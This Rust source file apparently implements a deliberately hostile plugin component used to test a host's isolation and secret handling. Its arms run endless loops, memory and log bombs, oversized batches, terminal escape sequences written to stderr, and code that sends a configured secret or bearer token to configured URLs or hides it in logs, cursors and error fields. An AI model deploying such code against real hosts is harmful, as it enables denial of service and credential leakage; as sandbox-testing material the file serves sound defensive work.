//! The attacks, one arm each.

use std::hint::black_box;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use waki::Client;
use waki::bindings::wasi::clocks::monotonic_clock;

use crate::exports::headwater::source::source::{Batch, Error, Event, Progress, Rejected};
use crate::exports::headwater::source::types::{Attribute, Fault, Measure, MeasureKind, SessionChange};

/// A batch with one event whose text says how the attack went, where it returns at all.
pub fn run(name: &str, config: &Value) -> Result<Batch, Error> {
    let url = config["url"].as_str().unwrap_or_default();
    match name {
        "endless-loop" => loop {
            black_box(());
        },
        "endless-host-calls" => loop {
            black_box(Instant::now());
        },
        "sleep" => {
            std::thread::sleep(Duration::from_secs(3600));
            Ok(batch(vec![]))
        }
        "memory-bomb" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1; 1 << 20]);
                black_box(&hoard);
            }
        }
        "trap" => panic!("as intended"),
        "handle-leak" => {
            let mut hoard = Vec::new();
            loop {
                hoard.push(Client::new().get(url).send());
            }
        }
        "giant-event" => Ok(batch(vec![event(
            "giant",
            json!({ "text": "x".repeat(30 << 20) }).to_string(),
        )])),
        "million-events" => Ok(batch(
            (0..1_000_000)
                .map(|number| event(&number.to_string(), "{}".to_owned()))
                .collect(),
        )),
        // As much as a batch may be, most of it beside the bodies, and one event that waits for its receiver.
        "heavy-batch" => {
            let mut batch = batch(vec![event("waits", "{}".to_owned())]);
            batch.rejected = (0..3)
                .map(|_| Rejected {
                    id: Some("x".repeat(1 << 20)),
                    reason: "y".repeat(1 << 20),
                    raw: vec![b'z'; 3 << 20],
                })
                .collect();
            Ok(batch)
        }
        // Far more of them than an event may have: what held them is larger than what is kept of them.
        "many-attributes" => {
            let mut laden = event("laden", "{}".to_owned());
            let nothing = Attribute {
                name: String::new(),
                value: String::new(),
            };
            laden.attributes = vec![nothing; 700_000];
            Ok(batch(vec![laden]))
        }
        "long-ids" => Ok(batch(
            (0..4_000)
                .map(|number| event(&format!("{number:01024}"), "{}".to_owned()))
                .collect(),
        )),
        // Another poll at once, each with other series.
        "many-series" => {
            let mut batch = batch(vec![]);
            let now = monotonic_clock::now();
            batch.measures = (0..1_000)
                .map(|number| Measure {
                    name: "chosen".to_owned(),
                    kind: MeasureKind::Counter,
                    label: format!("{now}-{number:0100}"),
                    value: 1,
                })
                .collect();
            batch.next_in = Some(0);
            Ok(batch)
        }
        // As much as a call may write, again and again.
        "log-flood" => {
            for _ in 0..1_000 {
                eprintln!("info {}", "noise ".repeat(10));
            }
            let mut batch = batch(vec![]);
            batch.next_in = Some(0);
            Ok(batch)
        }
        "giant-stderr" => {
            for _ in 0..100_000 {
                eprintln!("info {}", "noise ".repeat(100));
            }
            Ok(batch(vec![event("after-noise", "{}".to_owned())]))
        }
        "escape-stderr" => {
            eprintln!("warn \u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m cleared");
            Ok(batch(vec![event("after-escapes", "{}".to_owned())]))
        }
        // Asks again and again, whatever comes of it, several at a time.
        "fetch-on" => loop {
            let asked: Vec<_> = (0..config["at_once"].as_u64().unwrap_or(1))
                .filter_map(|_| crate::hoard::send(url))
                .collect();
            for answer in &asked {
                answer.subscribe().block();
                if let Some(Ok(Ok(answer))) = answer.get()
                    && let Ok(body) = answer.consume()
                    && let Ok(stream) = body.stream()
                {
                    while stream.blocking_read(1 << 20).is_ok() {}
                }
            }
        },
        "fetch" => Ok(batch(vec![event("fetched", fetch(url))])),
        "spend-secret" => Ok(batch(vec![event("spent", spend_secret(config))])),
        "leak" => leak(config),
        "session-bomb" => Ok(session_bomb()),
        "invalid-body" => Ok(batch(vec![
            event("good", "{}".to_owned()),
            event("bad", "{\"open\": ".to_owned()),
        ])),
        "two-lines" => Ok(batch(vec![event(
            "folded",
            "{\n  \"text\": \"one\"\n}".to_owned(),
        )])),
        "empty-id" => Ok(batch(vec![event("", "{}".to_owned())])),
        "oversized-cursor" => {
            let mut batch = batch(vec![event("unsafe", "{}".to_owned())]);
            batch.cursor = vec![b'1'; 2 << 20];
            Ok(batch)
        }
        "large-cursor" => {
            let mut batch = batch(vec![event("kept", "{}".to_owned())]);
            batch.cursor = [b"1 ".as_slice(), &[b'x'; 1_000_000]].concat();
            Ok(batch)
        }
        "unversioned-cursor" => {
            let mut batch = batch(vec![event("unsafe", "{}".to_owned())]);
            batch.cursor = vec![0xff, 0xfe];
            Ok(batch)
        }
        "environment" => {
            let seen = json!({
                "variables": std::env::vars().count(),
                "arguments": std::env::args().count(),
                "stdin": std::io::read_to_string(std::io::stdin()).unwrap_or_default(),
            });
            Ok(batch(vec![event("seen", seen.to_string())]))
        }
        _ if crate::hoard::run(name, url) => Ok(batch(vec![])),
        _ => Err(Error {
            fault: Fault::InvalidConfig,
            code: "hostile.unknown".into(),
            message: format!("no attack is named {name:?}"),
            hint: None,
            retry_after: None,
            session: SessionChange::Keep,
            measures: vec![],
        }),
    }
}

/// What came of a request, as JSON text.
fn fetch(url: &str) -> String {
    let outcome = Client::new().get(url).send().and_then(|response| {
        let status = response.status_code();
        Ok((status, response.body()?.len()))
    });
    match outcome {
        Ok((status, bytes)) => json!({ "status": status, "bytes": bytes }).to_string(),
        Err(error) => json!({ "refused": error.to_string() }).to_string(),
    }
}

/// Puts `text`, or else its secret, where `place` says. With `token` it logs in somewhere first, and gives that away.
fn leak(config: &Value) -> Result<Batch, Error> {
    let text = |key: &str| config[key].as_str().map(str::to_owned);
    let token = text("token").inspect(|token| {
        let url = config["url"].as_str().unwrap_or_default();
        // Refused or not: the host has seen it.
        let _ = Client::new()
            .get(url)
            .header("authorization", format!("Bearer {token}"))
            .send();
    });
    let text = token.or(text("text")).or(text("secret")).unwrap_or_default();
    let place = config["place"].as_str().unwrap_or_default();
    let mut batch = batch(vec![event("harmless", "{}".to_owned())]);
    let measure = |name: &str, label: &str| Measure {
        name: name.to_owned(),
        kind: MeasureKind::Counter,
        label: label.to_owned(),
        value: 1,
    };
    let rejected = |id: Option<&str>, reason: &str, raw: &str| Rejected {
        id: id.map(str::to_owned),
        reason: reason.to_owned(),
        raw: raw.as_bytes().to_vec(),
    };
    let error = |code: &str, message: &str, hint: &str| Error {
        fault: Fault::Denied,
        code: code.to_owned(),
        message: message.to_owned(),
        hint: Some(hint.to_owned()),
        retry_after: None,
        session: SessionChange::Keep,
        measures: vec![],
    };
    match place {
        "log" => eprintln!("warn the login with {text} worked"),
        "cursor" => batch.cursor = format!("1 {text}").into_bytes(),
        "label" => batch.measures.push(measure("dropped", &text)),
        "measure" => batch.measures.push(measure(&text, "")),
        "event-id" => batch.events[0].id = text,
        "rejected-id" => batch.rejected.push(rejected(Some(&text), "odd", "{}")),
        "reason" => batch.rejected.push(rejected(None, &text, "{}")),
        "raw" => batch
            .rejected
            .push(rejected(None, "odd", &format!("\u{fffd} {text} {{"))),
        "code" => return Err(error(&text, "refused", "ask")),
        "message" => return Err(error("hostile.refused", &text, "ask")),
        _ => return Err(error("hostile.refused", "refused", &text)),
    }
    Ok(batch)
}

/// Everything that a host that searches texts for secrets has to do, as much of it as fits: words of a session against
/// items with reasons.
fn session_bomb() -> Batch {
    let mut batch = batch(vec![]);
    let words = (0..20_000).map(|number| format!("{number:045} "));
    batch.session = SessionChange::Replace(words.collect::<String>().into_bytes());
    batch.rejected = (0..4_000)
        .map(|number| Rejected {
            id: None,
            reason: format!("{number:045} ").repeat(100),
            raw: vec![],
        })
        .collect();
    batch.next_in = Some(0);
    batch
}

/// Sends what it has for a secret to each of `urls`, in a header, a form and JSON. Then searches all of its memory for
/// the texts that `secret_plus_one` and `marker_plus_one` become when each byte is lowered by one.
fn spend_secret(config: &Value) -> String {
    let secret = config["secret"].as_str().unwrap_or_default();
    let urls = config["urls"].as_array().cloned().unwrap_or_default();
    for url in urls.iter().filter_map(Value::as_str) {
        for (kind, body) in [
            (
                "application/x-www-form-urlencoded",
                format!("a=1&secret={secret}&b=2"),
            ),
            ("application/json", json!({ "secret": secret }).to_string()),
        ] {
            let length = body.len().to_string();
            // Refused or not: the test looks at what arrived.
            let _ = Client::new()
                .post(url)
                .headers([
                    ("content-type", kind),
                    ("x-secret", secret),
                    ("content-length", &length),
                ])
                .body(body.into_bytes())
                .send();
        }
    }
    let count = |key: &str| count_in_memory(config[key].as_str().unwrap_or_default().as_bytes());
    json!({ "had": secret, "secrets": count("secret_plus_one"), "markers": count("marker_plus_one") })
        .to_string()
}

/// How often a text lies in the component's memory. It is given with each byte raised by one, so as not to find itself.
fn count_in_memory(raised: &[u8]) -> usize {
    let end = core::arch::wasm32::memory_size(0) << 16;
    let byte = |at: usize| {
        // Every address below the end is readable, and bytes need no alignment.
        unsafe { std::ptr::read_volatile(std::ptr::with_exposed_provenance::<u8>(at)) }
    };
    let is_here = |start: usize| {
        let mut pairs = raised.iter().enumerate();
        pairs.all(|(offset, raised)| byte(start + offset) == raised - 1)
    };
    (1..end - raised.len()).filter(|start| is_here(*start)).count()
}

fn event(id: &str, body: String) -> Event {
    Event {
        id: id.to_owned(),
        time: Some(1_700_000_000_000_000_000),
        severity: 9,
        attributes: vec![],
        body,
    }
}

fn batch(events: Vec<Event>) -> Batch {
    Batch {
        events,
        rejected: vec![],
        cursor: b"1 done".to_vec(),
        session: SessionChange::Keep,
        next_in: None,
        caught_up: true,
        progress: Some(Progress {
            start: 0,
            position: 1,
            target: 1,
        }),
        measures: vec![],
    }
}
